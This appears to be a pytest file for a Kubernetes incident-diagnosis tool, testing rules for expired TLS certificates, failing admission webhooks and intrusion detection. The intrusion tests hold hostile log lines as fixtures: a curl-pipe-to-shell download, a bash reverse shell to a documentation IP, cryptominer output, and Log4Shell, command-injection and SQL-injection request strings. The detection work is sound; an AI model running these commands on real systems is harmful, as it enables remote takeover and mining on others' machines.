"""Certificates, webhooks and intruders."""

from __future__ import annotations

from typing import Any

import pytest

from tests.diagnosis.rules.tiny import (
    NOW,
    answers,
    at,
    container,
    event,
    excluded,
    figure,
    log,
    pod,
    snapshot,
    thing,
    workload,
)
from tuheg_ir.diagnosis.decide import decide
from tuheg_ir.diagnosis.rules import certificate_expired, intrusion, webhook_fails

SHOP, CART = "Deployment/shop", "Deployment/cart"


class TestCertificate:
    RULE = certificate_expired.RULE

    def world(self, label: str) -> Any:
        rule = {
            "host": "town.example",
            "http": {"paths": [{"backend": {"service": {"name": "shop", "port": {"number": 8080}}}}]},
        }
        spec = {"rules": [rule], "tls": [{"hosts": ["town.example"], "secretName": "town-tls"}]}
        ended = NOW.timestamp() - 1800
        return snapshot(
            workload("shop"),
            thing("Ingress", "town", spec=spec),
            thing("Secret", "town-tls", type="kubernetes.io/tls", data={"tls.crt": "sha256:00"}),
            figures=[figure("certificate_expiry", ended, ended, component=label)],
        )

    @pytest.mark.parametrize("label", ["town-tls", "town", "town.example"])
    def test_at_the_way_in_only_a_new_one_helps(self, label: str) -> None:
        snap = self.world(label)
        assert answers(self.RULE, snap) == [("Secret/town-tls", "configuration_error", "page_human", "Secret/town-tls")]
        assert ("restart_workload", SHOP) in excluded(self.RULE, snap)

    def test_one_that_ends_next_week_is_well(self) -> None:
        later = NOW.timestamp() + 7 * 86400
        snap = snapshot(workload("shop"), figures=[figure("certificate_expiry", later, later, component="town")])
        assert answers(self.RULE, snap) == []

    @pytest.mark.parametrize(
        "line",
        [
            'Get "https://cart:8443/": tls: failed to verify certificate: x509: certificate has expired: '
            "current time 2026-03-04T11:59:00Z is after 2026-03-04T10:00:00Z",
            "Error: certificate has expired (CERT_HAS_EXPIRED) https://cart:8443",
            "javax.net.ssl.SSLHandshakeException: PKIX path validation failed: validity check failed https://cart:8443",
            "HTTPSConnectionPool(host='cart', port=8443): [SSL: CERTIFICATE_VERIFY_FAILED] certificate has expired",
        ],
    )
    def test_between_services_the_server_is_told(self, line: str) -> None:
        serves = {"volumes": [{"name": "tls", "secret": {"secretName": "cart-tls"}}]}
        secret = thing("Secret", "cart-tls", type="kubernetes.io/tls", data={"tls.crt": "sha256:00"})
        snap = snapshot(workload("shop"), workload("cart", spec=serves), secret, logs=[log(pod("shop"), line)])
        assert answers(self.RULE, snap) == [("Secret/cart-tls", "configuration_error", "page_human", "Secret/cart-tls")]

    def test_one_that_was_renewed_is_taken_by_a_restart_of_its_server(self) -> None:
        line = 'Get "https://cart:8443/": x509: certificate has expired'
        serves = {"volumes": [{"name": "tls", "secret": {"secretName": "cart-tls"}}]}
        secret = thing("Secret", "cart-tls", written=3600, type="kubernetes.io/tls", data={"tls.crt": "sha256:00"})
        snap = snapshot(workload("shop"), workload("cart", spec=serves), secret, logs=[log(pod("shop"), line)])
        assert answers(self.RULE, snap) == [(CART, "configuration_error", "restart_workload", CART)]

    def test_of_somebody_outside_the_caller_is_told(self) -> None:
        line = 'Post "https://api.pay.example.com/": x509: certificate has expired or is not yet valid'
        snap = snapshot(workload("shop"), logs=[log(pod("shop"), line)])
        assert answers(self.RULE, snap) == [(SHOP, "configuration_error", "page_human", SHOP)]


class TestWebhook:
    RULE = webhook_fails.RULE
    EXPIRED = (
        'Error creating: Internal error occurred: failed calling webhook "inject.mesh.example": failed: '
        'Post "https://injector.mesh.svc:443/inject?timeout=10s": tls: failed to verify certificate: '
        "x509: certificate has expired or is not yet valid"
    )

    def test_a_bad_certificate_is_named(self) -> None:
        hook = thing("MutatingWebhookConfiguration", "mesh-injector", webhooks=[{"name": "inject.mesh.example"}])
        snap = snapshot(workload("shop", ready=1), hook, event("ReplicaSet/shop-r1", "FailedCreate", self.EXPIRED))
        where = "MutatingWebhookConfiguration/mesh-injector"
        assert answers(self.RULE, snap) == [(where, "configuration_error", "page_human", where)]
        assert {("restart_workload", SHOP), ("rollback_workload", SHOP)} <= excluded(self.RULE, snap)

    @pytest.mark.parametrize(
        ("reason", "where"),
        [
            (
                'Post "https://policy.sys.svc:443/validate?timeout=10s": context deadline exceeded',
                "ValidatingWebhookConfiguration/policy",
            ),
            (
                'Post "https://policy.sys.svc:443/mutate": dial tcp 10.96.9.9:443: connect: connection refused',
                "MutatingWebhookConfiguration/policy",
            ),
            ('no endpoints available for service "policy"', "MutatingWebhookConfiguration/check"),
        ],
    )
    def test_one_that_does_not_answer(self, reason: str, where: str) -> None:
        told = f'Error creating: Internal error occurred: failed calling webhook "check.policy.example": {reason}'
        snap = snapshot(workload("shop", ready=1), event("ReplicaSet/shop-r1", "FailedCreate", told))
        assert answers(self.RULE, snap) == [(where, "dependency_failure", "page_human", where)]

    def test_one_fault_is_one_finding(self) -> None:
        told = [event(f"ReplicaSet/{name}-r1", "FailedCreate", self.EXPIRED) for name in ("shop", "cart")]
        snap = snapshot(workload("shop", ready=1), workload("cart", ready=1), *told)
        assert [f.rule for f in decide(snap).findings] == ["webhook_fails"]


class TestIntrusion:
    RULE = intrusion.RULE

    @pytest.mark.parametrize(
        "line",
        [
            " * POOL #1      stratum+tcp://pool.example:3333 algo auto",
            "[2026-03-04 11:59:01] miner    speed 10s/60s/15m 4120.1 4100.9 n/a H/s max 4300.2 H/s",
            "sh: curl -fsSL http://203.0.113.7/a.sh | sh",
            "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1",
            "+ chmod +x /tmp/kdevtmpfsi",
        ],
    )
    def test_foreign_programs_are_isolated_and_nothing_is_restarted(self, line: str) -> None:
        snap = snapshot(workload("shop"), workload("cart"), logs=[log(pod("shop"), line)])
        assert answers(self.RULE, snap) == [(SHOP, "security_incident", "isolate_workload", SHOP)]
        assert {("restart_workload", SHOP), ("rollback_workload", SHOP)} <= excluded(self.RULE, snap)

    @pytest.mark.parametrize(
        "line",
        [
            '203.0.113.9 - - "GET /?x=${jndi:ldap://203.0.113.9/a} HTTP/1.1" 404 153',
            '203.0.113.9 - - "GET /cgi-bin/;curl http://203.0.113.9/a.sh | sh HTTP/1.1" 400 0',
            "POST /login 401 ' OR '1'='1",
            "INFO downloading report with curl",
            "INFO health of redis-miner-stats ok",
        ],
    )
    def test_attempts_in_an_access_log_are_no_intrusion(self, line: str) -> None:
        assert answers(self.RULE, snapshot(workload("shop"), logs=[log(pod("shop"), line)])) == []

    def lone(self, **spec: Any) -> dict[str, Any]:
        made = thing(
            "Pod",
            "helper",
            age=1200,
            spec={"containers": [container("c", "docker.io/x/y:1")], "nodeName": "n1", **spec},
        )
        status = {"name": "c", "ready": True, "state": {"running": {"startedAt": at(1200)}}}
        return {**made, "status": {"phase": "Running", "containerStatuses": [status]}}

    def test_a_pod_of_nobody_with_the_nodes_disk_is_isolated(self) -> None:
        root = {"volumes": [{"name": "r", "hostPath": {"path": "/"}}]}
        snap = snapshot(workload("shop"), self.lone(**root))
        assert answers(self.RULE, snap) == [("Pod/helper", "security_incident", "isolate_workload", "Pod/helper")]

    def test_a_pod_of_nobody_without_rights_is_somebodys_test(self) -> None:
        assert answers(self.RULE, snapshot(workload("shop"), self.lone())) == []

    def test_a_release_from_a_foreign_registry_that_takes_the_node(self) -> None:
        before = {"image": "registry.example/shop:1", "securityContext": {}}
        bad = workload("shop", "evil.example/x:1", before=before, securityContext={"privileged": True})
        snap = snapshot(bad, workload("cart"))
        assert answers(self.RULE, snap) == [(SHOP, "security_incident", "isolate_workload", SHOP)]

    def test_a_release_from_a_new_registry_alone_is_a_move(self) -> None:
        moved = workload("shop", "mirror.example/shop:2", before={"image": "registry.example/shop:1"})
        assert answers(self.RULE, snapshot(moved, workload("cart"))) == []

    def test_a_privileged_agent_of_long_ago_is_as_wanted(self) -> None:
        agent = workload("agent", kind="DaemonSet", securityContext={"privileged": True})
        assert answers(self.RULE, snapshot(agent)) == []
